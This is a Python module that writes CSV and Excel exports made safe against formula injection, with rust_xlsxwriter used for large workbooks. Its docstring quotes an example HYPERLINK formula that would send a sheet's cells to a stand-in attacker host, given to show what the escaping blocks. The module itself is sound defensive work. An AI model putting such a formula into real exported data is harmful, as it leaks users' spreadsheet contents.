"""Files people open in a spreadsheet: CSV and Excel (.xlsx), written so that no cell runs as a formula.

Every CSV the app writes goes through write_csv (or safe_cell), as OWASP's CSV-injection guidance asks: a text
cell that starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so a spreadsheet shows it as
text instead of running it (a page title such as =HYPERLINK("http://evil.example/?"&A1) would otherwise send the
sheet's cells away). Numbers stay numbers: -3 or -0.5 cannot be a formula. In .xlsx files every text cell is
stored as text, which Excel never evaluates, so the text stays as it was.

Workbooks are written by rust_xlsxwriter (XlsxWriter's own Rust port, through rustpy-xlsxwriter) in its
constant-memory mode: each row goes to disk as it comes, so memory stays flat at any row count, on a tenth of the
CPU of XlsxWriter (100,000 pages of a crawl: 1.7 s instead of some 15 s). It writes text as text (no formulas, no
links, no numbers made of it) and numbers as numbers.
"""

import csv
import re
from pathlib import Path

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
XLSX_TEXT_LIMIT = 32_767  # characters in one Excel cell
XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # control characters an .xlsx cannot hold


def safe_cell(value):
    "The value as a spreadsheet should see it: text that would start a formula gets a leading apostrophe."
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(path: Path, header: list[str], rows) -> Path:
    "Writes the rows (sequences in the order of header) as a UTF-8 CSV, every cell made safe; returns the path."
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(map(safe_cell, header))
        writer.writerows(map(safe_cell, row) for row in rows)
    return path


def write_xlsx(path: Path, sheets: dict[str, tuple[list[str], object]]) -> Path:
    "Writes an Excel workbook, one sheet per entry {sheet name: (header, rows)}, its header row frozen; returns the path."
    from rustpy_xlsxwriter import FastExcel  # imported when a workbook is asked for: the app's start does without it
    path.parent.mkdir(parents=True, exist_ok=True)
    book = FastExcel(str(path)).freeze(row=1, col=0)
    for name, (header, rows) in sheets.items(): book.sheet(name[:31], records(header, rows))
    book.save()  # the sheets' rows are read now, a sheet after the other
    return path


def records(header: list[str], rows):
    "The rows as the dicts FastExcel takes, each cell fit for .xlsx; a sheet with no rows still has its header."
    empty = True
    for row in rows:
        empty = False
        yield {column: xlsx_cell(value) for column, value in zip(header, row)}
    if empty: yield dict.fromkeys(header)


def xlsx_cell(value):
    "Text without the control characters .xlsx cannot hold, cut to what a cell holds; other values as they are."
    if not isinstance(value, str): return value
    return XLSX_ILLEGAL.sub("", value)[:XLSX_TEXT_LIMIT]
